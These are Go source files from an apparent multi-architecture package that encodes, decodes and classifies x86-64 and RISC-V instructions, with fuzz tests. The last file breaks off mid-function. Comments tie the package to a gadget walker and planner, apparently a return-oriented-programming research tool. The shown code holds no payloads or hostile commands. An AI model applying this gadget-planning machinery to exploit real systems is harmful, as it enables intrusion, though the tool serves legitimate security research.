	OpBcc   // compare-and-branch: A = target imm, B/C = rs1/rs2, Cond = relation
	OpJal   // jump-and-link to a non-standard link register: A = target imm, B = rd
	OpJalr  // indirect jump-and-link, non-standard link: A = rs1, B = rd, C = offset imm
	OpLoad  // sign-extending load: A = rd, B = mem, Size = source width
	OpLoadU // zero-extending load: A = rd, B = mem, Size = source width
	OpSlt   // set-less-than signed: A = rd, B = rs1, C = rs2/imm
	OpSltu  // set-less-than unsigned
	OpAuipc // A = rd, B = imm; rd = inst address + imm
	OpDiv   // signed divide (RISC-V M semantics: no trap)
	OpDivU  // unsigned divide
	OpRem   // signed remainder
	OpRemU  // unsigned remainder

	numOps
)

var _opNames = [numOps]string{
	OpInvalid: "invalid",
	OpMov:     "mov",
	OpLea:     "lea",
	OpAdd:     "add",
	OpSub:     "sub",
	OpAnd:     "and",
	OpOr:      "or",
	OpXor:     "xor",
	OpCmp:     "cmp",
	OpTest:    "test",
	OpNot:     "not",
	OpNeg:     "neg",
	OpImul:    "imul",
	OpShl:     "shl",
	OpShr:     "shr",
	OpSar:     "sar",
	OpInc:     "inc",
	OpDec:     "dec",
	OpPush:    "push",
	OpPop:     "pop",
	OpRet:     "ret",
	OpJmp:     "jmp",
	OpJcc:     "j",
	OpCall:    "call",
	OpSyscall: "syscall",
	OpNop:     "nop",
	OpLeave:   "leave",
	OpInt3:    "int3",
	OpHlt:     "hlt",
	OpXchg:    "xchg",
	OpMovzx:   "movzx",
	OpMovsxd:  "movsxd",
	OpSetcc:   "set",
	OpCqo:     "cqo",
	OpIdiv:    "idiv",
	OpBcc:     "b",
	OpJal:     "jal",
	OpJalr:    "jalr",
	OpLoad:    "l",
	OpLoadU:   "lu",
	OpSlt:     "slt",
	OpSltu:    "sltu",
	OpAuipc:   "auipc",
	OpDiv:     "div",
	OpDivU:    "divu",
	OpRem:     "rem",
	OpRemU:    "remu",
}

// String returns the mnemonic name.
func (o Op) String() string {
	if o < numOps {
		return _opNames[o]
	}
	return fmt.Sprintf("op(%d)", uint8(o))
}

// OperandKind distinguishes the forms an instruction operand can take.
type OperandKind uint8

// Operand kinds.
const (
	KindNone OperandKind = iota
	KindReg
	KindImm
	KindMem
)

// Mem is a memory operand reference: [base + index*scale + disp] or
// [rip + disp].
type Mem struct {
	Base     Reg
	Index    Reg
	Scale    uint8 // 1, 2, 4, or 8; meaningful only when HasIndex
	Disp     int32
	HasBase  bool
	HasIndex bool
	RIPRel   bool // [rip + disp]; Base/Index unused
}

// Operand is a single instruction operand.
type Operand struct {
	Kind OperandKind
	Reg  Reg
	Imm  int64
	Mem  Mem
}

// RegOp returns a register operand.
func RegOp(r Reg) Operand { return Operand{Kind: KindReg, Reg: r} }

// ImmOp returns an immediate operand.
func ImmOp(v int64) Operand { return Operand{Kind: KindImm, Imm: v} }

// MemOp returns a [base + disp] memory operand.
func MemOp(base Reg, disp int32) Operand {
	return Operand{Kind: KindMem, Mem: Mem{Base: base, HasBase: true, Disp: disp}}
}

// MemOpIdx returns a [base + index*scale + disp] memory operand.
func MemOpIdx(base, index Reg, scale uint8, disp int32) Operand {
	return Operand{Kind: KindMem, Mem: Mem{
		Base: base, HasBase: true, Index: index, HasIndex: true, Scale: scale, Disp: disp,
	}}
}

// RIPOp returns a [rip + disp] memory operand.
func RIPOp(disp int32) Operand {
	return Operand{Kind: KindMem, Mem: Mem{RIPRel: true, Disp: disp}}
}

// Inst is one decoded or to-be-encoded instruction.
//
// Operand conventions:
//   - Two-operand instructions: A is the destination, B the source.
//   - One-operand instructions (push, pop, not, neg, inc, dec, idiv,
//     jmp/call indirect, setcc): the operand is A.
//   - Direct jmp/call/jcc: A is KindImm holding the *absolute* target
//     address (the decoder resolves rel8/rel32 displacements; the encoder
//     converts back to a displacement using the instruction address).
type Inst struct {
	Op   Op
	Cond Cond  // condition for OpJcc, OpSetcc and OpBcc
	Size uint8 // operand size in bytes: 1, 2, 4 or 8
	A, B Operand
	// C is the third operand of RISC-V three-operand forms (add rd, rs1,
	// rs2/imm). KindNone for every x86-64 instruction.
	C Operand

	// Addr and Len are decode metadata: the virtual address the instruction
	// was decoded at and its encoded length in bytes.
	Addr uint64
	Len  uint8
}

// IsBranch reports whether the instruction transfers control (ret, jmp, jcc,
// call, syscall, hlt, int3).
func (i Inst) IsBranch() bool {
	switch i.Op {
	case OpRet, OpJmp, OpJcc, OpCall, OpSyscall, OpHlt, OpInt3, OpBcc, OpJal, OpJalr:
		return true
	default:
		return false
	}
}

// IsIndirectBranch reports whether the instruction is an indirect jump or
// call (target taken from a register or memory).
func (i Inst) IsIndirectBranch() bool {
	return (i.Op == OpJmp || i.Op == OpCall || i.Op == OpJalr) && i.A.Kind != KindImm
}

// IsDirectBranch reports whether the instruction is a direct jump, call or
// conditional jump with an immediate target.
func (i Inst) IsDirectBranch() bool {
	switch i.Op {
	case OpJmp, OpCall, OpJcc, OpBcc, OpJal:
		return i.A.Kind == KindImm
	default:
		return false
	}
}

// End returns the address of the byte just past this instruction.
func (i Inst) End() uint64 { return i.Addr + uint64(i.Len) }
