package isa

import "testing"

// rvFuzz is the shared body for the RV64/RV64C decoder fuzz targets,
// mirroring FuzzDecode's contract: never panic, never claim more bytes than
// provided, and always re-encode stably (encode→decode→encode fixpoint —
// compressed forms may legally re-encode as their 4-byte expansions).
func rvFuzz(t *testing.T, be Backend, data []byte) {
	const addr = 0x401000 // aligned for every stride
	inst, err := be.Decode(data, addr)
	if err != nil {
		return
	}
	if inst.Len == 0 || int(inst.Len) > len(data) || inst.Len > 4 {
		t.Fatalf("bad length %d for %x", inst.Len, data)
	}
	_ = be.FormatInst(&inst)
	_ = be.Classify(&inst)
	enc, err := be.Encode(inst, addr)
	if err != nil {
		return
	}
	dec, err := be.Decode(enc, addr)
	if err != nil {
		t.Fatalf("re-decode of %x (from %x) failed: %v", enc, data, err)
	}
	enc2, err := be.Encode(dec, addr)
	if err != nil {
		t.Fatalf("re-encode of %x (from %x) failed: %v", enc, data, err)
	}
	if string(enc) != string(enc2) {
		t.Fatalf("unstable: %x -> %x vs %x", data, enc, enc2)
	}
}

func rvSeeds(f *testing.F) {
	f.Add([]byte{0x93, 0x05, 0x44, 0x02})       // addi a1, s0, 36
	f.Add([]byte{0x33, 0x85, 0xC5, 0x00})       // add a0, a1, a2
	f.Add([]byte{0x03, 0xB5, 0x85, 0x01})       // ld a0, 24(a1)
	f.Add([]byte{0x23, 0x34, 0xA5, 0x00})       // sd a0, 8(a0)
	f.Add([]byte{0x63, 0x08, 0xB5, 0x00})       // beq a0, a1, +16
	f.Add([]byte{0xEF, 0x00, 0x40, 0x00})       // jal ra, +4
	f.Add([]byte{0x67, 0x80, 0x00, 0x00})       // ret
	f.Add([]byte{0x73, 0x00, 0x00, 0x00})       // ecall
	f.Add([]byte{0xB7, 0x45, 0x01, 0x00})       // lui a1, 0x14
	f.Add([]byte{0x13, 0x00, 0x00, 0x00})       // nop
	f.Add([]byte{0x22, 0xE4})                   // c.sdsp-ish halfword
	f.Add([]byte{0x82, 0x80})                   // c.jr ra
	f.Add([]byte{0x2A, 0x84})                   // c.mv s0, a0
	f.Add([]byte{0x06, 0x61, 0x73, 0x00, 0x00}) // mixed tail
}

// FuzzDecodeRV64 fuzzes the aligned-only RV64 decoder.
func FuzzDecodeRV64(f *testing.F) {
	rvSeeds(f)
	f.Fuzz(func(t *testing.T, data []byte) { rvFuzz(t, RV64, data) })
}

// FuzzDecodeRV64C fuzzes the RV64 decoder with the C extension enabled.
func FuzzDecodeRV64C(f *testing.F) {
	rvSeeds(f)
	f.Fuzz(func(t *testing.T, data []byte) { rvFuzz(t, RV64C, data) })
}
