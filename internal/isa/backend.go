package isa

import "fmt"

// Class is a backend-independent gadget-boundary classification of one
// instruction. The gadget walker and the Table I counters consume classes
// instead of switching on backend-private mnemonics, which is what lets one
// extraction engine serve several ISAs.
type Class uint8

// Instruction classes, from the gadget walker's point of view.
const (
	// ClassOther is a plain sequential instruction.
	ClassOther Class = iota
	// ClassRet is a return: the canonical gadget terminator. On x86-64 this
	// is ret (target popped from the stack); on RV64 it is jalr x0, 0(ra)
	// (target taken from the link register).
	ClassRet
	// ClassJmpDir is an unconditional direct jump (immediate target in A).
	ClassJmpDir
	// ClassJmpInd is an unconditional indirect jump (register/memory target).
	ClassJmpInd
	// ClassCallDir is a direct call (immediate target in A).
	ClassCallDir
	// ClassCallInd is an indirect call.
	ClassCallInd
	// ClassCondBr is a conditional branch (taken target is an immediate in A).
	ClassCondBr
	// ClassSyscall is a system-call instruction.
	ClassSyscall
	// ClassTrap is a walk-stopping trap (hlt, int3, ebreak).
	ClassTrap
)

var _classNames = [...]string{
	"other", "ret", "jmp-dir", "jmp-ind", "call-dir", "call-ind",
	"cond-br", "syscall", "trap",
}

// String names the class.
func (c Class) String() string {
	if int(c) < len(_classNames) {
		return _classNames[c]
	}
	return fmt.Sprintf("class(%d)", uint8(c))
}

// SyscallABI describes where the emulated OS reads a system call's number
// and arguments and writes its result. Syscall numbers themselves are
// canonical (x86-64 Linux numbering) on every backend; only the register
// binding differs.
type SyscallABI struct {
	// Num holds the syscall number.
	Num Reg
	// Args holds the argument registers in order.
	Args []Reg
	// Ret receives the result.
	Ret Reg
}

// Backend is one instruction-set architecture as the analysis engine sees
// it: a decoder/encoder pair, the register file and stack model, decode
// stride/alignment rules, and the gadget-boundary classification. Everything
// above this interface (symbolic effects, subsumption, planning) is
// ISA-agnostic.
type Backend interface {
	// Name is the canonical backend identifier ("x64", "rv64", "rv64c") as
	// used in cache keys, CLI flags and experiment arms.
	Name() string
	// PtrSize is the pointer width in bytes.
	PtrSize() int
	// NumRegs is the size of the general-purpose register file.
	NumRegs() int
	// SP is the stack pointer register.
	SP() Reg
	// ZeroReg returns the hardwired-zero register, if the ISA has one.
	ZeroReg() (Reg, bool)
	// LinkReg returns the call return-address register, if calls link to a
	// register rather than pushing to the stack.
	LinkReg() (Reg, bool)
	// RegName names a register.
	RegName(r Reg) string
	// RegByName resolves a register name.
	RegByName(name string) (Reg, bool)
	// Stride is the decode-start granularity in bytes: 1 on x86-64 (any
	// byte offset may start a gadget), 4 on RV64, 2 with the C extension.
	Stride() int
	// Decode decodes one instruction at addr. Backends with alignment rules
	// fail on misaligned addresses.
	Decode(code []byte, addr uint64) (Inst, error)
	// Encode encodes one instruction placed at pc.
	Encode(inst Inst, pc uint64) ([]byte, error)
	// Classify maps an instruction onto its gadget-boundary class.
	Classify(inst *Inst) Class
	// Syscall describes the system-call register binding.
	Syscall() SyscallABI
	// FormatInst renders an instruction in the backend's assembly syntax.
	FormatInst(inst *Inst) string
}

// DefaultISA is the backend every entry point assumes when none is named:
// the original x86-64 engine. Cache keys, fingerprints and request
// canonicalization all treat it as the empty/default value so that
// pre-multi-ISA artifacts stay valid.
const DefaultISA = "x64"

// Backends lists the registered backends in canonical order.
func Backends() []Backend { return []Backend{X64, RV64, RV64C} }

// ByName resolves a backend identifier. The empty string means the default
// x64 backend.
func ByName(name string) (Backend, bool) {
	switch name {
	case "", "x64":
		return X64, true
	case "rv64":
		return RV64, true
	case "rv64c":
		return RV64C, true
	}
	return nil, false
}

// MustByName resolves a backend identifier or panics; for internal callers
// operating on an already-validated name.
func MustByName(name string) Backend {
	be, ok := ByName(name)
	if !ok {
		panic(fmt.Sprintf("isa: unknown backend %q", name))
	}
	return be
}

// CanonicalISA normalizes a backend identifier: "" becomes DefaultISA.
func CanonicalISA(name string) string {
	if name == "" {
		return DefaultISA
	}
	return name
}

// AnyRegByName resolves a register name against every backend, trying the
// default x64 names first. Backend register names never collide across
// ISAs (rax..r15 vs zero,ra,sp,...), so the result is unambiguous; it lets
// ISA-agnostic consumers (the planner's variable classifier) map symbolic
// variable names back to registers without knowing the pool's backend.
func AnyRegByName(name string) (Reg, bool) {
	if r, ok := RegByName(name); ok {
		return r, ok
	}
	return rv64RegByName(name)
}
