package isa

import (
	"encoding/binary"
	"fmt"
)

// EncodeError describes an instruction the encoder cannot represent.
type EncodeError struct {
	Inst   Inst
	Reason string
}

func (e *EncodeError) Error() string {
	return fmt.Sprintf("isa: cannot encode %s: %s", e.Inst.Op, e.Reason)
}

func encErr(inst Inst, format string, args ...any) error {
	return &EncodeError{Inst: inst, Reason: fmt.Sprintf(format, args...)}
}

// rex prefix bit masks.
const (
	rexBase = 0x40
	rexW    = 0x08
	rexR    = 0x04
	rexX    = 0x02
	rexB    = 0x01
)

func fitsInt8(v int64) bool  { return v >= -128 && v <= 127 }
func fitsInt32(v int64) bool { return v >= -(1<<31) && v < (1<<31) }

// modRMTail is the ModRM byte plus optional SIB and displacement bytes,
// together with the REX bits (R, X, B) the addressing form requires.
type modRMTail struct {
	rex   uint8
	bytes []byte
}

// encodeModRM builds the ModRM/SIB/disp byte sequence for a register field
// (either a register operand number or an opcode extension digit) and an r/m
// operand (register or memory).
func encodeModRM(regField uint8, rm Operand) (modRMTail, error) {
	var t modRMTail
	if regField >= 8 {
		t.rex |= rexR
	}
	regBits := (regField & 7) << 3

	switch rm.Kind {
	case KindReg:
		if rm.Reg >= 8 {
			t.rex |= rexB
		}
		t.bytes = []byte{0xC0 | regBits | uint8(rm.Reg&7)}
		return t, nil

	case KindMem:
		m := rm.Mem
		if m.RIPRel {
			t.bytes = make([]byte, 5)
			t.bytes[0] = 0x00 | regBits | 0x05
			binary.LittleEndian.PutUint32(t.bytes[1:], uint32(m.Disp))
			return t, nil
		}
		needSIB := m.HasIndex || !m.HasBase || (m.Base&7) == 4
		if m.HasIndex && m.Index == RSP {
			return t, fmt.Errorf("isa: rsp cannot be an index register")
		}
		var sib byte
		hasSIB := false
		if needSIB {
			hasSIB = true
			var scaleBits byte
			switch m.Scale {
			case 0, 1:
				scaleBits = 0
			case 2:
				scaleBits = 1 << 6
			case 4:
				scaleBits = 2 << 6
			case 8:
				scaleBits = 3 << 6
			default:
				return t, fmt.Errorf("isa: invalid scale %d", m.Scale)
			}
			idxBits := byte(4) << 3 // none
			if m.HasIndex {
				idxBits = byte(m.Index&7) << 3
				if m.Index >= 8 {
					t.rex |= rexX
				}
			}
			baseBits := byte(5) // none (requires mod=00 + disp32)
			if m.HasBase {
				baseBits = byte(m.Base & 7)
				if m.Base >= 8 {
					t.rex |= rexB
				}
			}
			sib = scaleBits | idxBits | baseBits
		} else if m.Base >= 8 {
			t.rex |= rexB
		}

		rmBits := byte(4) // SIB follows
		if !needSIB {
			rmBits = byte(m.Base & 7)
		}

		// Choose mod and displacement width.
		var mod byte
		var disp []byte
		switch {
		case !m.HasBase:
			// Absolute [disp32] (via SIB with base=101, mod=00).
			mod = 0
			disp = make([]byte, 4)
			binary.LittleEndian.PutUint32(disp, uint32(m.Disp))
		case m.Disp == 0 && (m.Base&7) != 5:
			mod = 0
		case fitsInt8(int64(m.Disp)):
			mod = 1 << 6
			disp = []byte{byte(m.Disp)}
		default:
			mod = 2 << 6
			disp = make([]byte, 4)
			binary.LittleEndian.PutUint32(disp, uint32(m.Disp))
		}

		t.bytes = append(t.bytes, mod|regBits|rmBits)
		if hasSIB {
			t.bytes = append(t.bytes, sib)
		}
		t.bytes = append(t.bytes, disp...)
		return t, nil

	default:
		return t, fmt.Errorf("isa: operand kind %d is not an r/m operand", rm.Kind)
	}
}

// appendImm appends a little-endian immediate of the given byte width.
func appendImm(buf []byte, v int64, width int) []byte {
	switch width {
	case 1:
		return append(buf, byte(v))
	case 2:
		return binary.LittleEndian.AppendUint16(buf, uint16(v))
	case 4:
		return binary.LittleEndian.AppendUint32(buf, uint32(v))
	default:
		return binary.LittleEndian.AppendUint64(buf, uint64(v))
	}
}

// emit assembles prefix + opcode(s) + ModRM tail + immediate into buf.
// rexBits are the pre-computed W/R/X/B bits; forceREX emits a REX prefix even
// when no bits are set (required to address sil/dil/spl/bpl in byte ops).
func emit(buf []byte, rexBits uint8, forceREX bool, opcodes []byte, tail modRMTail, imm []byte) []byte {
	rexBits |= tail.rex
	if rexBits != 0 || forceREX {
		buf = append(buf, rexBase|rexBits)
	}
	buf = append(buf, opcodes...)
	buf = append(buf, tail.bytes...)
	buf = append(buf, imm...)
	return buf
}

// sizeREX returns the REX.W bit for an operand size and whether the size is
// supported for general ALU forms.
func sizeREX(size uint8) (uint8, bool) {
	switch size {
	case 8:
		return rexW, true
	case 4, 1:
		return 0, true
	default:
		return 0, false
	}
}

// arithInfo gives the opcode bases and the /digit for the group-1 ALU ops.
type arithInfo struct {
	rmReg byte // op r/m, reg
	regRM byte // op reg, r/m
	digit uint8
}

var _arith = map[Op]arithInfo{
	OpAdd: {0x01, 0x03, 0},
	OpOr:  {0x09, 0x0B, 1},
	OpAnd: {0x21, 0x23, 4},
	OpSub: {0x29, 0x2B, 5},
	OpXor: {0x31, 0x33, 6},
	OpCmp: {0x39, 0x3B, 7},
}

var _shiftDigit = map[Op]uint8{OpShl: 4, OpShr: 5, OpSar: 7}

// Append encodes inst at address pc and appends the machine code to buf.
// The pc is needed to turn absolute branch targets into relative
// displacements; non-branch instructions ignore it.
func Append(buf []byte, inst Inst, pc uint64) ([]byte, error) {
	size := inst.Size
	if size == 0 {
		size = 8
	}
	wBit, ok := sizeREX(size)
	if !ok {
		return nil, encErr(inst, "unsupported operand size %d", size)
	}
	// Byte-sized register operands always get a REX prefix so that registers
	// 4..7 select spl/bpl/sil/dil uniformly.
	forceREX := size == 1 && (inst.A.Kind == KindReg || inst.B.Kind == KindReg)

	switch inst.Op {
	case OpNop:
		return append(buf, 0x90), nil
	case OpRet:
		if inst.A.Kind == KindImm {
			buf = append(buf, 0xC2)
			return appendImm(buf, inst.A.Imm, 2), nil
		}
		return append(buf, 0xC3), nil
	case OpLeave:
		return append(buf, 0xC9), nil
	case OpInt3:
		return append(buf, 0xCC), nil
	case OpHlt:
		return append(buf, 0xF4), nil
	case OpSyscall:
		return append(buf, 0x0F, 0x05), nil
	case OpCqo:
		return append(buf, rexBase|rexW, 0x99), nil

	case OpPush:
		switch inst.A.Kind {
		case KindReg:
			if inst.A.Reg >= 8 {
				buf = append(buf, rexBase|rexB)
			}
			return append(buf, 0x50|byte(inst.A.Reg&7)), nil
		case KindImm:
			if fitsInt8(inst.A.Imm) {
				return append(buf, 0x6A, byte(inst.A.Imm)), nil
			}
			if !fitsInt32(inst.A.Imm) {
				return nil, encErr(inst, "push immediate out of range")
			}
			buf = append(buf, 0x68)
			return appendImm(buf, inst.A.Imm, 4), nil
		case KindMem:
			tail, err := encodeModRM(6, inst.A)
			if err != nil {
				return nil, err
			}
			return emit(buf, 0, false, []byte{0xFF}, tail, nil), nil
		}
		return nil, encErr(inst, "bad push operand")

	case OpPop:
		switch inst.A.Kind {
		case KindReg:
			if inst.A.Reg >= 8 {
				buf = append(buf, rexBase|rexB)
			}
			return append(buf, 0x58|byte(inst.A.Reg&7)), nil
		case KindMem:
			tail, err := encodeModRM(0, inst.A)
			if err != nil {
				return nil, err
			}
			return emit(buf, 0, false, []byte{0x8F}, tail, nil), nil
		}
		return nil, encErr(inst, "bad pop operand")

	case OpMov:
		return encodeMov(buf, inst, size, wBit, forceREX)

	case OpLea:
		if inst.A.Kind != KindReg || inst.B.Kind != KindMem {
			return nil, encErr(inst, "lea requires reg, mem operands")
		}
		tail, err := encodeModRM(uint8(inst.A.Reg), inst.B)
		if err != nil {
			return nil, err
		}
		return emit(buf, wBit, false, []byte{0x8D}, tail, nil), nil

	case OpAdd, OpOr, OpAnd, OpSub, OpXor, OpCmp:
		info := _arith[inst.Op]
		switch {
		case inst.B.Kind == KindImm:
			if inst.A.Kind != KindReg && inst.A.Kind != KindMem {
				return nil, encErr(inst, "bad ALU destination")
			}
			tail, err := encodeModRM(info.digit, inst.A)
			if err != nil {
				return nil, err
			}
			if size == 1 {
				return nil, encErr(inst, "byte-size ALU immediates unsupported")
			}
			if fitsInt8(inst.B.Imm) {
				return emit(buf, wBit, false, []byte{0x83}, tail, []byte{byte(inst.B.Imm)}), nil
			}
			if !fitsInt32(inst.B.Imm) {
				return nil, encErr(inst, "ALU immediate out of range")
			}
			imm := appendImm(nil, inst.B.Imm, 4)
			return emit(buf, wBit, false, []byte{0x81}, tail, imm), nil
		case inst.B.Kind == KindReg:
			tail, err := encodeModRM(uint8(inst.B.Reg), inst.A)
			if err != nil {
				return nil, err
			}
			op := info.rmReg
			if size == 1 {
				op-- // 8-bit form is the even opcode just below
			}
			return emit(buf, wBit, forceREX, []byte{op}, tail, nil), nil
		case inst.A.Kind == KindReg && inst.B.Kind == KindMem:
			tail, err := encodeModRM(uint8(inst.A.Reg), inst.B)
			if err != nil {
				return nil, err
			}
			op := info.regRM
			if size == 1 {
				op--
			}
			return emit(buf, wBit, forceREX, []byte{op}, tail, nil), nil
		}
		return nil, encErr(inst, "bad ALU operands")

	case OpTest:
		if inst.B.Kind == KindImm {
			tail, err := encodeModRM(0, inst.A)
			if err != nil {
				return nil, err
			}
			if !fitsInt32(inst.B.Imm) {
				return nil, encErr(inst, "test immediate out of range")
			}
			imm := appendImm(nil, inst.B.Imm, 4)
			return emit(buf, wBit, false, []byte{0xF7}, tail, imm), nil
		}
		if inst.B.Kind != KindReg {
			return nil, encErr(inst, "test requires a register source")
		}
		tail, err := encodeModRM(uint8(inst.B.Reg), inst.A)
		if err != nil {
			return nil, err
		}
		op := byte(0x85)
		if size == 1 {
			op = 0x84
		}
		return emit(buf, wBit, forceREX, []byte{op}, tail, nil), nil

	case OpNot, OpNeg, OpIdiv:
		digits := map[Op]uint8{OpNot: 2, OpNeg: 3, OpIdiv: 7}
		tail, err := encodeModRM(digits[inst.Op], inst.A)
		if err != nil {
			return nil, err
		}
		if size == 1 {
			return nil, encErr(inst, "byte-size unary group unsupported")
		}
		return emit(buf, wBit, false, []byte{0xF7}, tail, nil), nil

	case OpImul:
		if inst.A.Kind != KindReg {
			return nil, encErr(inst, "imul destination must be a register")
		}
		tail, err := encodeModRM(uint8(inst.A.Reg), inst.B)
		if err != nil {
			return nil, err
		}
		return emit(buf, wBit, false, []byte{0x0F, 0xAF}, tail, nil), nil

	case OpShl, OpShr, OpSar:
		digit := _shiftDigit[inst.Op]
		tail, err := encodeModRM(digit, inst.A)
		if err != nil {
			return nil, err
		}
		switch {
		case inst.B.Kind == KindImm:
			return emit(buf, wBit, false, []byte{0xC1}, tail, []byte{byte(inst.B.Imm)}), nil
		case inst.B.Kind == KindReg && inst.B.Reg == RCX:
			return emit(buf, wBit, false, []byte{0xD3}, tail, nil), nil
		}
		return nil, encErr(inst, "shift count must be an immediate or cl")

	case OpInc, OpDec:
		digit := uint8(0)
		if inst.Op == OpDec {
			digit = 1
		}
		tail, err := encodeModRM(digit, inst.A)
		if err != nil {
			return nil, err
		}
		return emit(buf, wBit, false, []byte{0xFF}, tail, nil), nil

	case OpXchg:
		if inst.B.Kind != KindReg {
			return nil, encErr(inst, "xchg source must be a register")
		}
		tail, err := encodeModRM(uint8(inst.B.Reg), inst.A)
		if err != nil {
			return nil, err
		}
		return emit(buf, wBit, false, []byte{0x87}, tail, nil), nil

	case OpMovzx:
		if inst.A.Kind != KindReg {
			return nil, encErr(inst, "movzx destination must be a register")
		}
		tail, err := encodeModRM(uint8(inst.A.Reg), inst.B)
		if err != nil {
			return nil, err
		}
		return emit(buf, wBit, false, []byte{0x0F, 0xB6}, tail, nil), nil

	case OpMovsxd:
		if inst.A.Kind != KindReg {
			return nil, encErr(inst, "movsxd destination must be a register")
		}
		tail, err := encodeModRM(uint8(inst.A.Reg), inst.B)
		if err != nil {
			return nil, err
		}
		return emit(buf, rexW, false, []byte{0x63}, tail, nil), nil

	case OpSetcc:
		tail, err := encodeModRM(0, inst.A)
		if err != nil {
			return nil, err
		}
		force := inst.A.Kind == KindReg
		return emit(buf, 0, force, []byte{0x0F, 0x90 | byte(inst.Cond)}, tail, nil), nil

	case OpJmp:
		switch inst.A.Kind {
		case KindImm:
			rel := int64(uint64(inst.A.Imm) - (pc + 5))
			if !fitsInt32(rel) {
				return nil, encErr(inst, "jump displacement out of range")
			}
			buf = append(buf, 0xE9)
			return appendImm(buf, rel, 4), nil
		case KindReg, KindMem:
			tail, err := encodeModRM(4, inst.A)
			if err != nil {
				return nil, err
			}
			return emit(buf, 0, false, []byte{0xFF}, tail, nil), nil
		}
		return nil, encErr(inst, "bad jmp operand")

	case OpCall:
		switch inst.A.Kind {
		case KindImm:
			rel := int64(uint64(inst.A.Imm) - (pc + 5))
			if !fitsInt32(rel) {
				return nil, encErr(inst, "call displacement out of range")
			}
			buf = append(buf, 0xE8)
			return appendImm(buf, rel, 4), nil
		case KindReg, KindMem:
			tail, err := encodeModRM(2, inst.A)
			if err != nil {
				return nil, err
			}
			return emit(buf, 0, false, []byte{0xFF}, tail, nil), nil
		}
		return nil, encErr(inst, "bad call operand")

	case OpJcc:
		if inst.A.Kind != KindImm {
			return nil, encErr(inst, "conditional jump target must be immediate")
		}
		rel := int64(uint64(inst.A.Imm) - (pc + 6))
		if !fitsInt32(rel) {
			return nil, encErr(inst, "jcc displacement out of range")
		}
		buf = append(buf, 0x0F, 0x80|byte(inst.Cond))
		return appendImm(buf, rel, 4), nil
	}

	return nil, encErr(inst, "unsupported mnemonic")
}

// encodeMov handles the mov instruction forms.
func encodeMov(buf []byte, inst Inst, size, wBit uint8, forceREX bool) ([]byte, error) {
	switch {
	case inst.A.Kind == KindReg && inst.B.Kind == KindImm:
		v := inst.B.Imm
		r := inst.A.Reg
		switch {
		case size == 8 && fitsInt32(v):
			// mov r/m64, imm32 (sign-extended): C7 /0.
			tail, err := encodeModRM(0, inst.A)
			if err != nil {
				return nil, err
			}
			imm := appendImm(nil, v, 4)
			return emit(buf, rexW, false, []byte{0xC7}, tail, imm), nil
		case size == 8 && v >= 0 && v <= 0xFFFFFFFF:
			// 32-bit mov zero-extends: B8+r imm32.
			if r >= 8 {
				buf = append(buf, rexBase|rexB)
			}
			buf = append(buf, 0xB8|byte(r&7))
			return appendImm(buf, v, 4), nil
		case size == 8:
			// movabs: REX.W B8+r imm64.
			rex := byte(rexBase | rexW)
			if r >= 8 {
				rex |= rexB
			}
			buf = append(buf, rex, 0xB8|byte(r&7))
			return appendImm(buf, v, 8), nil
		case size == 4:
			if r >= 8 {
				buf = append(buf, rexBase|rexB)
			}
			buf = append(buf, 0xB8|byte(r&7))
			return appendImm(buf, v, 4), nil
		default:
			return nil, encErr(inst, "byte-size mov immediate unsupported")
		}

	case inst.A.Kind == KindMem && inst.B.Kind == KindImm:
		if size == 1 {
			tail, err := encodeModRM(0, inst.A)
			if err != nil {
				return nil, err
			}
			return emit(buf, 0, false, []byte{0xC6}, tail, []byte{byte(inst.B.Imm)}), nil
		}
		if !fitsInt32(inst.B.Imm) {
			return nil, encErr(inst, "mov memory immediate out of range")
		}
		tail, err := encodeModRM(0, inst.A)
		if err != nil {
			return nil, err
		}
		imm := appendImm(nil, inst.B.Imm, 4)
		return emit(buf, wBit, false, []byte{0xC7}, tail, imm), nil

	case inst.B.Kind == KindReg:
		tail, err := encodeModRM(uint8(inst.B.Reg), inst.A)
		if err != nil {
			return nil, err
		}
		op := byte(0x89)
		if size == 1 {
			op = 0x88
		}
		return emit(buf, wBit, forceREX, []byte{op}, tail, nil), nil

	case inst.A.Kind == KindReg && inst.B.Kind == KindMem:
		tail, err := encodeModRM(uint8(inst.A.Reg), inst.B)
		if err != nil {
			return nil, err
		}
		op := byte(0x8B)
		if size == 1 {
			op = 0x8A
		}
		return emit(buf, wBit, forceREX, []byte{op}, tail, nil), nil
	}
	return nil, encErr(inst, "bad mov operands")
}

// Encode encodes a single instruction at address pc.
func Encode(inst Inst, pc uint64) ([]byte, error) {
	return Append(nil, inst, pc)
}
