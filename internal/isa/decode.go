package isa

import (
	"encoding/binary"
	"errors"
	"fmt"
)

// ErrTruncated is returned when the byte buffer ends mid-instruction.
var ErrTruncated = errors.New("isa: truncated instruction")

// DecodeError describes bytes that do not form a supported instruction.
type DecodeError struct {
	Addr   uint64
	Byte   byte
	Reason string
}

func (e *DecodeError) Error() string {
	return fmt.Sprintf("isa: undecodable byte %#02x at %#x: %s", e.Byte, e.Addr, e.Reason)
}

func decErr(addr uint64, b byte, reason string) error {
	return &DecodeError{Addr: addr, Byte: b, Reason: reason}
}

// decoder walks a byte slice.
type decoder struct {
	code []byte
	pos  int
	addr uint64
	rex  uint8
	has  bool // rex prefix present
}

func (d *decoder) u8() (byte, error) {
	if d.pos >= len(d.code) {
		return 0, ErrTruncated
	}
	b := d.code[d.pos]
	d.pos++
	return b, nil
}

func (d *decoder) i8() (int64, error) {
	b, err := d.u8()
	return int64(int8(b)), err
}

func (d *decoder) i16() (int64, error) {
	if d.pos+2 > len(d.code) {
		return 0, ErrTruncated
	}
	v := int64(int16(binary.LittleEndian.Uint16(d.code[d.pos:])))
	d.pos += 2
	return v, nil
}

func (d *decoder) i32() (int64, error) {
	if d.pos+4 > len(d.code) {
		return 0, ErrTruncated
	}
	v := int64(int32(binary.LittleEndian.Uint32(d.code[d.pos:])))
	d.pos += 4
	return v, nil
}

func (d *decoder) i64() (int64, error) {
	if d.pos+8 > len(d.code) {
		return 0, ErrTruncated
	}
	v := int64(binary.LittleEndian.Uint64(d.code[d.pos:]))
	d.pos += 8
	return v, nil
}

// size returns the operand size selected by REX.W.
func (d *decoder) size() uint8 {
	if d.rex&rexW != 0 {
		return 8
	}
	return 4
}

// modRM parses a ModRM byte (plus SIB/displacement) and returns the reg
// field (extended by REX.R) and the r/m operand.
func (d *decoder) modRM() (uint8, Operand, error) {
	mb, err := d.u8()
	if err != nil {
		return 0, Operand{}, err
	}
	mod := mb >> 6
	reg := (mb >> 3) & 7
	rm := mb & 7
	if d.rex&rexR != 0 {
		reg |= 8
	}

	if mod == 3 {
		r := Reg(rm)
